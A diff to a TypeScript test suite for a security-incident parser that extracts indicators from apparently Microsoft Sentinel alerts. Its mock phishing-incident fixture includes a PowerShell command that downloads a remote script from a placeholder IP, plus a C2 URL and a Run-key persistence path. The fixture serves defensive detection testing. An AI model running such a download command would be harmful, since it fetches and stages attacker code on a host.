@@ -37,18 +37,20 @@ describe('sentinel', () => {
       [
         'mentioned object.properties.relatedEntities[0].address (ipv4 ipv6) 203.0.113.80',
         'url object.properties.relatedEntities[1].url (url) https://c2.example.net/p',
+        'url object.properties.relatedEntities[1].url.host (ipv4 ipv6 domain) c2.example.net',
         'dns object.properties.relatedEntities[2].domainName (domain) c2.example.net',
         'file object.properties.relatedEntities[3].hashValue (md5 sha1 sha224 sha256 sha384 sha512 ssdeep tlsh) a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90',
         'file object.properties.relatedEntities[4].directory (file-path file-name) C:\\Users\\ann\\Downloads\\q4.docm',
-        'host! object.properties.relatedEntities[5].hostName (ipv4 ipv6 domain) ws-12.corp.example',
-        'user! object.properties.relatedEntities[6].accountName (email) ann@corp.example',
-        'sender object.properties.relatedEntities[7].sender (email) billing@example.net',
-        'sender object.properties.relatedEntities[7].p2sender (email) ceo@example.org',
-        'recipient! object.properties.relatedEntities[7].recipient (email) ann@corp.example',
+        'host! object.properties.relatedEntities[5].hostName (ipv4 ipv6 domain) ws-12.corp.example.com',
+        'user! object.properties.relatedEntities[6].accountName (email) ann@corp.example.com',
+        'sender object.properties.relatedEntities[7].sender (text) billing@example.net',
+        'sender object.properties.relatedEntities[7].p2sender (text) ceo@example.org',
+        'recipient! object.properties.relatedEntities[7].recipient (email) ann@corp.example.com',
         'source object.properties.relatedEntities[7].senderIP (ipv4 ipv6) 198.51.100.9',
         'mentioned object.properties.relatedEntities[7].subject (text) Q4 figures',
         'url object.properties.relatedEntities[7].urls[0] (url) https://c2.example.net/p',
-        'recipient! object.properties.relatedEntities[8].mailboxPrimaryAddress (email) ann@corp.example',
+        'url object.properties.relatedEntities[7].urls[0].host (ipv4 ipv6 domain) c2.example.net',
+        'recipient! object.properties.relatedEntities[8].mailboxPrimaryAddress (email) ann@corp.example.com',
         'mentioned object.properties.relatedEntities[9].commandLine (text) powershell -c iwr http://198.51.100.12/a.ps1',
         'registry object.properties.relatedEntities[10].key (registry-key) HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
         'mentioned object.properties.relatedEntities[12].malwareName (text) Trojan:Win32/Test',
@@ -110,14 +112,14 @@ describe('sentinel', () => {
       },
     ]);
     expect(alerts.map(told)).toEqual([
-      ['mentioned Entities[0].address (ipv4 ipv6) 198.51.100.31', 'host! Entities[1].hostName (ipv4 ipv6 domain) srv-3.corp.example'],
+      ['mentioned Entities[0].address (ipv4 ipv6) 198.51.100.31', 'host! Entities[1].hostName (ipv4 ipv6 domain) srv-3.corp.example.com'],
     ]);
   });
 
   it('is another submission when an alert is added, and the same when a comment or an owner is', () => {
     const body = payload('sentinel', 'incident.json');
     const key = (text: string) => alertsOf(sentinel, text)[0]?.key;
-    expect(key(body.replace('"commentsCount": 0', '"commentsCount": 3').replace('"email": null', '"email": "eve@corp.example"'))).toBe(
+    expect(key(body.replace('"commentsCount": 0', '"commentsCount": 3').replace('"email": null', '"email": "eve@corp.example.com"'))).toBe(
       key(body),
     );
     expect(key(body.replace('"alertsCount": 2', '"alertsCount": 3'))).not.toBe(key(body));
